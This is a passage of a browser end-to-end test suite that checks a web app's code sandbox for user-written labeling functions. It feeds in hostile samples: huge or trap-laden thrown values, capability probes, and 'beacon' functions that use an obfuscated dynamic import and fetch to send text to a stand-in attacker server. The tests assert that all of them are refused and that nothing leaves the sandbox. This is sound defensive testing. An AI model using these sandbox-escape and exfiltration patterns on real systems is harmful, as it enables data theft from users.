          expect(text, `the preview of the ${variant} forgery (${when}) must show an error`).toMatch(/error/i);
          expect(text).not.toMatch(/Coverage 100/);
          noEgressSince(h, attacker, m);
          expect(
            await page.getByTestId('isolation-status').count(),
            `the ${variant} forgery (${when}) in the preview made the app report isolation unavailable`,
          ).toBe(0);
        }
      }
      // The preview stores nothing: every project is as it was, and there is no new one.
      const after = await stored(page);
      untouched(before, after);
      expect(after.projects.length).toBe(before.projects.length);
    });

    it('2. built-ins and helper results mutated by one LF, then a clean run', async () => {
      await freshPage(h);
      const m = mark(h, attacker);
      const before = await stored(h.page);
      // Attackers first, so they run before the ordinary LFs in the same workers.
      const lfs = [...MUTATORS.map((a) => a.lf), ...ORDINARY];
      await importAndRun(h, projectFile(`mutate-${server}`, lfs), lfs);
      await verdict(m, before, MUTATORS, 'mutate');
      // The same through the live preview (a pasted snippet): it runs in the same pool.
      for (const a of MUTATORS.filter((x) => x.mustFail)) {
        await writeCodeLf(h.page, `preview_${a.lf.name}`, (a.lf as Extract<LfDef, { kind: 'code' }>).source);
        await h.page.waitForFunction(
          () => /rror|Coverage/.test(document.querySelector('[data-testid="lf-preview"]')?.textContent ?? ''),
          null,
          { timeout: 60_000 },
        );
        expect
          .soft((await h.page.getByTestId('lf-preview').textContent()) ?? '', `the preview of ${a.lf.name} must show its error`)
          .toMatch(REFUSED);
      }
      // Workers are reused (pool.ts): a later run in this page must still compute clean votes.
      const middle = await stored(h.page);
      await importAndRun(h, projectFile(`after-mutate-${server}`, ORDINARY), ORDINARY);
      const after = await stored(h.page);
      await ordinaryAsClean(projectView(after, newProject(middle, after)), 'in a later run');
      noEgressSince(h, attacker, m);
    });

    it('3. huge and hostile error values, in a run and in the preview', async () => {
      await freshPage(h);
      const page = h.page;
      const m = mark(h, attacker);
      const before = await stored(page);
      const attacks: Attack[] = [
        { lf: code('huge_error', "(x) => { throw new Error('A'.repeat(2e7)); }"), mustFail: true, message: /20,000,000/ },
        // Large enough to crash the tab when it was stored and rendered whole.
        { lf: code('huger_error', "(x) => { throw new Error('B'.repeat(1e8)); }"), mustFail: true, message: /100,000,000/ },
        // Not an Error: a plain object whose message is huge.
        { lf: code('huge_plain_throw', "(x) => { throw { message: 'D'.repeat(2e7) }; }"), mustFail: true, message: /20,000,000/ },
        // Thrown values that fight being read: getters and a Proxy that throw, a Symbol.
        {
          lf: code(
            'hostile_getters',
            "(x) => { throw { get message() { throw new Error('no message'); }, get name() { throw 1; }, toString() { throw 2; } }; }",
          ),
          mustFail: true,
        },
        {
          lf: code(
            'hostile_proxy',
            "(x) => { throw new Proxy({}, { get() { throw new Error('trap'); }, getPrototypeOf() { throw new Error('trap'); }, has() { throw new Error('trap'); } }); }",
          ),
          mustFail: true,
        },
        { lf: code('throws_symbol', "(x) => { throw Symbol('s'); }"), mustFail: true },
        // A huge return value that is not a class name.
        { lf: code('huge_return', "(x) => 'E'.repeat(2e7)"), mustFail: true },
        // A returned value that fights being read (an endless trap would only meet the time
        // budget, which e2e/isolation and the pool's tests already cover).
        {
          lf: code(
            'hostile_return',
            "(x) => new Proxy({}, { get() { throw new Error('trap'); }, getPrototypeOf() { throw new Error('trap'); }, has() { throw new Error('trap'); }, ownKeys() { throw new Error('trap'); } })",
          ),
          mustFail: true,
        },
      ];
      const lfs = [...attacks.map((a) => a.lf), ...ORDINARY];
      await importAndRun(h, projectFile(`huge-error-${server}`, lfs), lfs);
      await verdict(m, before, attacks, 'huge-error');
      const after = await stored(page);
      const view = projectView(after, newProject(before, after));
      for (const a of attacks) {
        expect.soft(view.votes[a.lf.name]?.errorLength ?? Infinity, `${a.lf.name}'s stored error`).toBeLessThan(10_000);
      }
      expect.soft(view.votes.huge_error?.errorHead).toMatch(/AAAA/);
      // One unbroken 2 KB word must not stretch the page sideways (the list stays readable).
      expect
        .soft(
          await page.evaluate(() => document.documentElement.scrollWidth),
          'the page is wider than the window: an LF error does not wrap',
        )
        .toBeLessThanOrEqual(1280);
      // The page answers: another screen opens, and the LF list comes back.
      await page.getByRole('link', { name: 'Analysis', exact: true }).click();
      await page.getByRole('heading', { level: 1, name: 'Analysis' }).waitFor({ timeout: 30_000 });
      await page.getByRole('link', { name: 'LFs', exact: true }).click();
      await lfRow(page, 'huge_error').getByTestId('lf-error').waitFor({ timeout: 30_000 });
      // The live preview bounds it too.
      await writeCodeLf(page, 'huge_preview', "(x) => { throw new Error('C'.repeat(2e7)); }");
      await page.waitForFunction(
        () => /Error on|rror/.test(document.querySelector('[data-testid="lf-preview"]')?.textContent ?? ''),
        null,
        { timeout: 60_000 },
      );
      const previewText = (await page.getByTestId('lf-preview').textContent()) ?? '';
      await h.shot(`attacks-${server}-huge-preview`);
      expect
        .soft(
          await page.evaluate(() => document.documentElement.scrollWidth),
          'the page is wider than the window: the preview error does not wrap',
        )
        .toBeLessThanOrEqual(1280);
      expect(previewText.length, 'the preview shows a bounded message').toBeLessThan(10_000);
      expect(previewText).toMatch(/20,000,000/);
      noEgressSince(h, attacker, m);
    });

    it('4. capability probes: network, storage, fonts, file systems, workers, the global', async () => {
      await freshPage(h);
      const m = mark(h, attacker);
      const before = await stored(h.page);
      const attacks = probes(attacker.origin);
      const lfs = [...attacks.map((a) => a.lf), ...ORDINARY];
      await importAndRun(h, projectFile(`probes-${server}`, lfs), lfs);
      // Name every probe that got through in one message before the per-LF checks.
      const open: string[] = [];
      for (const a of attacks.filter((x) => x.mustFail)) {
        const status = await statusOf(h.page, a.lf.name);
        if (status !== 'error') open.push(`${a.lf.name} (${status})`);
      }
      expect(open, 'probes that reached a capability (not marked failed)').toEqual([]);
      await verdict(m, before, attacks, 'probes');
      // A few of them pasted into the editor: the live preview refuses them the same way.
      for (const name of ['probe_global_proto', 'probe_fontface', 'probe_fetch_ctor', 'probe_import_function']) {
        const a = attacks.find((x) => x.lf.name === name)!;
        await writeCodeLf(h.page, `preview_${name}`, (a.lf as Extract<LfDef, { kind: 'code' }>).source);
        await h.page.waitForFunction(
          () => /rror|Coverage|may not contain/.test(document.querySelector('[data-testid="lf-preview"]')?.textContent ?? ''),
          null,
          { timeout: 60_000 },
        );
        await h.page.waitForTimeout(1000);
        const text = (await h.page.getByTestId('lf-preview').textContent()) ?? '';
        expect.soft(text, `the preview of ${name}`).toMatch(REFUSED);
        expect.soft(text, `the preview of ${name}`).not.toMatch(/Coverage 100/);
      }
      noEgressSince(h, attacker, m);
    });
  });
}

attackSuite('preview');
attackSuite('static');

browserSuite(
  'LF sandbox: where the isolated frame cannot start (a static host that breaks its script), code LFs do not run anywhere',
  () => {
    // No headers (page workers would have no CSP at all), and the frame script's hash taken out of
    // the meta CSP: the sandboxed frame's one inline script is refused, so it never reports ready.
    const h = new Harness({ server: 'static' });
    const attacker = new AttackerServer();
    h.screenshotOnFailure();
    beforeAll(async () => {
      await attacker.start();
      await h.start();
      const strip = (csp: string) => csp.replace(/ 'sha256-[^']+'/g, '');
      await h.context.route(
        (url) => url.origin === h.origin && (url.pathname.endsWith('/') || url.pathname.endsWith('.html')),
        async (route) => {
          const response = await route.fetch();
          await route.fulfill({ response, body: strip(await response.text()) });
        },
      );
    });
    afterAll(async () => {
      await h.close();
      await attacker.close();
    });

    vitestIt('code LFs say why in one sentence and send nothing; templates run [static, no frame]', async () => {
      const page = h.page;
      const m = mark(h, attacker);
      await h.goto('#/export');
      const html = await page.content();
      expect(html, 'the route took the frame hash out of the CSP').not.toMatch(/'sha256-/);
      // Code LFs that would announce themselves to the attacker if they ran anywhere.
      const A = JSON.stringify(attacker.origin);
      const ran = (name: string) =>
        code(
          name,
          `(x) => { try { (0, Function)('u', 'return im' + 'port(u)')(${A} + '/ran/${name}?d=' + encodeURIComponent(x.text)).catch(() => {}); } catch (e) {} try { fetch(${A} + '/ran/${name}'); } catch (e) {} return 'spam'; }`,
        );
      const codeLfs = [ran('beacon_one'), ran('beacon_two')];
      const templates = ORDINARY.filter((l) => l.kind !== 'code');
      const lfs = [...codeLfs, ...templates];
      const before = await stored(page);
      await importAndRun(h, projectFile('no-isolation', lfs), lfs);
      await h.shot('attacks-no-isolation');
      noEgressSince(h, attacker, m);
      const after = await stored(page);
      untouched(before, after);
      const view = projectView(after, newProject(before, after));
      const sentences: string[] = [];
      for (const lf of codeLfs) {
        expect(await statusOf(page, lf.name), `${lf.name} must not show a coverage`).not.toMatch(/coverage/);
        const text = (await lfRow(page, lf.name).textContent()) ?? '';
        const error = await errorOf(page, lf.name);
        // One sentence saying why: short, not a stack trace.
        const said = error || text;
        expect(said, `${lf.name} must say why it did not run`).toMatch(/isolat|sandbox|process/i);
        expect(error.length).toBeLessThan(400);
        expect(error).not.toMatch(/\n\s+at /);
        sentences.push(error);
        expect(view.votes[lf.name]?.covered ?? 0, `${lf.name} must not have votes`).toBe(0);
      }
      expect(new Set(sentences).size, 'the same sentence for every code LF').toBe(1);
      // The app says so where the user looks for the device's state, too.
      expect.soft(await page.getByTestId('isolation-status').count(), 'the status bar says code LFs cannot run').toBe(1);
      for (const lf of templates) {
        expect(await statusOf(page, lf.name), `${lf.name} still runs`).toBe(coverageText(EXPECTED[lf.name]));
        expect(view.votes[lf.name]?.digest, `${lf.name}'s votes`).toBe(digestOf(EXPECTED[lf.name]));
      }
      // The live preview of a code LF refuses too, and sends nothing.
      await writeCodeLf(page, 'preview_beacon', (ran('preview_beacon') as Extract<LfDef, { kind: 'code' }>).source);
      await page.waitForFunction(
        () => /isolat|sandbox|process|rror|Coverage/i.test(document.querySelector('[data-testid="lf-preview"]')?.textContent ?? ''),
        null,
        { timeout: 60_000 },
      );
      await page.waitForTimeout(1500);
      await h.shot('attacks-no-isolation-preview');
      expect((await page.getByTestId('lf-preview').textContent()) ?? '').not.toMatch(/Coverage/);
      noEgressSince(h, attacker, m);
    });
  },
);
